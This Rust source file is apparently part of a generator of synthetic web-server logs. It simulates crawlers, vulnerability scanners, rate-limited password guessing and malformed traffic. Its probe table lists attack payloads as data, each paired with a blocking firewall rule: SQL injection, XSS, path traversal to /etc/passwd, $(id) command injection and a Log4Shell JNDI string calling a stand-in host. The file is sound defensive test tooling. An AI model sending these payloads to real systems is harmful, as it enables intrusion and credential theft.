//! What nobody wanted.
//!
//! A crawler without a name, scanners in bursts, somebody who guesses passwords until the rate limit holds him, bytes
//! that are no HTTP, handshakes that fail.

use std::net::Ipv4Addr;

use fastrand::Rng;

use super::client::{BROWSERS, CRAWLER, SCANNERS};
use super::visit::address_of;
use super::{Agent, Client, Outcome, Refusal, Request, Route, Traffic, answer, trace};
use crate::chance::{Chance, stream};
use crate::clock::{HOUR, MINUTE, Micros, SECOND};
use crate::plan::{Plan, Window};

/// What scanners ask for, and the rule that blocks it. An empty rule lets it through.
const PROBES: [(&str, &str, &str); 14] = [
    ("/wp-login.php", "", ""),
    ("/.env", "", "block-hidden-files"),
    ("/.git/config", "", "block-hidden-files"),
    ("/api/products/1001", "sort=1%27%20OR%20%271%27=%271", "SQLi_QUERYARGUMENTS"),
    ("/api/search", "q=1%20UNION%20SELECT%20password%20FROM%20users--", "SQLi_QUERYARGUMENTS"),
    ("/api/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", "CrossSiteScripting_QUERYARGUMENTS"),
    ("/download", "file=../../../../etc/passwd", "GenericLFI_QUERYARGUMENTS"),
    (
        "/cgi-bin/luci/;stok=/locale",
        "form=country&operation=write&country=$(id)",
        "GenericRFI_QUERYARGUMENTS",
    ),
    ("/", "x=${jndi:ldap://192.0.2.66/a}", "Log4JRCE_QUERYSTRING"),
    ("/phpmyadmin/index.php", "", "AdminProtection_URIPATH"),
    ("/admin/", "", "AdminProtection_URIPATH"),
    ("/robots.txt", "", ""),
    ("/%2e%2e/%2e%2e/windows/win.ini", "", "GenericLFI_URIPATH"),
    ("/actuator/health", "", ""),
];

pub(super) fn generate(plan: &Plan, window: Window, traffic: &mut Traffic) {
    for hour in 0..plan.hours {
        let start = window.from + Micros::from(hour) * HOUR;
        let rng = &mut stream(plan.seed, "noise", u64::from(hour));
        let rate = f64::from(plan.requests_per_hour);
        crawl(rate * 0.05, start, window, rng, traffic);
        scans(rate * 0.045, start, window, rng, traffic);
        for _ in 0..times(rate * 0.004, rng) {
            malformed(start + rng.i64(0..HOUR), rng, traffic);
        }
        for _ in 0..times(rate * 0.008, rng) {
            failed_handshake(start + rng.i64(0..HOUR), rng, traffic);
        }
    }
    guess(plan, window, traffic);
}

/// A whole number about a mean.
fn times(mean: f64, rng: &mut Rng) -> u32 {
    mean as u32 + u32::from(rng.chance(mean.fract()))
}

fn somebody(at: Micros, client: Client, rng: &mut Rng, traffic: &mut Traffic) -> Request {
    Request {
        at,
        trace: trace(at, rng),
        client,
        connection: client.connect(at, true, rng, traffic),
        user: None,
        route: Route::Unknown,
        path: "/".into(),
        query: String::new(),
        outcome: Outcome::Refused(Refusal::Malformed),
        upload: 0.0,
        download: 0.0,
        received: 300 + rng.u64(..300),
        sent: 0,
        counted: None,
    }
}

fn crawl(requests: f64, start: Micros, window: Window, rng: &mut Rng, traffic: &mut Traffic) {
    let client = Client { address: Ipv4Addr::new(198, 51, 100, 240), agent: &CRAWLER };
    for _ in 0..times(requests, rng) {
        let at = start + rng.i64(0..HOUR);
        let mut request = somebody(at, client, rng, traffic);
        request.route = if rng.chance(0.8) { Route::Product } else { Route::Home };
        (request.path, request.query) = address_of(request.route, 0, rng);
        answer::decide(&mut request, window, rng);
        traffic.requests.push(request);
    }
}

fn scans(mut requests: f64, start: Micros, window: Window, rng: &mut Rng, traffic: &mut Traffic) {
    while requests > 0.0 {
        let length = 8 + rng.u32(..24);
        if requests < f64::from(length) && !rng.chance(requests / f64::from(length)) {
            return;
        }
        requests -= f64::from(length);
        let scanner: &'static Agent = &SCANNERS[rng.usize(..SCANNERS.len())];
        let client = Client { address: Ipv4Addr::new(192, 0, 2, rng.u8(1..=250)), agent: scanner };
        let mut at = start + rng.i64(0..HOUR);
        for _ in 0..length {
            at += 200_000 + rng.i64(0..3 * SECOND);
            let (path, query, rule) = rng.pick(&PROBES);
            let mut request = somebody(at, client, rng, traffic);
            (request.path, request.query) = (path.into(), query.into());
            let rule = match (rule, scanner.name) {
                ("", "-") => "NoUserAgent_HEADER",
                ("", name) if name.starts_with("sqlmap") => "UserAgent_BadBots_HEADER",
                (rule, _) => rule,
            };
            if rule.is_empty() {
                answer::decide(&mut request, window, rng);
                if rng.chance(0.5) {
                    request.counted = Some("HostingProviderIPList");
                }
            } else {
                request.outcome = Outcome::Refused(Refusal::Blocked(rule));
                request.sent = 520;
            }
            traffic.requests.push(request);
        }
    }
}

/// One address tries passwords for some minutes, once in twelve hours.
fn guess(plan: &Plan, window: Window, traffic: &mut Traffic) {
    let every = 12 * HOUR;
    let mut begin = window.from + ((window.to - window.from) / 3).min(every / 2) + 13 * MINUTE;
    let rng = &mut stream(plan.seed, "guesses", 0);
    while begin < window.to {
        let client = Client { address: Ipv4Addr::new(192, 0, 2, rng.u8(1..=250)), agent: &BROWSERS[6] };
        let mut at = begin;
        let tries = (plan.requests_per_hour / 6).clamp(12, 600);
        for attempt in 0..tries {
            at += 400_000 + rng.i64(0..SECOND);
            let mut request = somebody(at, client, rng, traffic);
            request.route = Route::Login;
            request.path = "/api/login".into();
            if attempt < tries / 3 {
                answer::decide(&mut request, window, rng);
            } else {
                request.outcome = Outcome::Refused(Refusal::Blocked("rate-limit-login"));
                request.sent = 520;
            }
            traffic.requests.push(request);
        }
        begin += every;
    }
}

fn malformed(at: Micros, rng: &mut Rng, traffic: &mut Traffic) {
    let client = Client { address: Ipv4Addr::new(192, 0, 2, rng.u8(1..=250)), agent: &SCANNERS[4] };
    let connection = client.connect(at, false, rng, traffic);
    traffic.requests.push(Request {
        at,
        trace: trace(at, rng),
        client,
        connection,
        user: None,
        route: Route::Unknown,
        path: String::new(),
        query: String::new(),
        outcome: Outcome::Refused(Refusal::Malformed),
        upload: 0.0,
        download: 0.0,
        received: rng.u64(..60),
        sent: 272,
        counted: None,
    });
}

fn failed_handshake(at: Micros, rng: &mut Rng, traffic: &mut Traffic) {
    let client = Client { address: Ipv4Addr::new(192, 0, 2, rng.u8(1..=250)), agent: &SCANNERS[1] };
    let connection = client.connect(at, true, rng, traffic);
    traffic.connections[connection].failed = Some("UnmappedConnectionError");
}
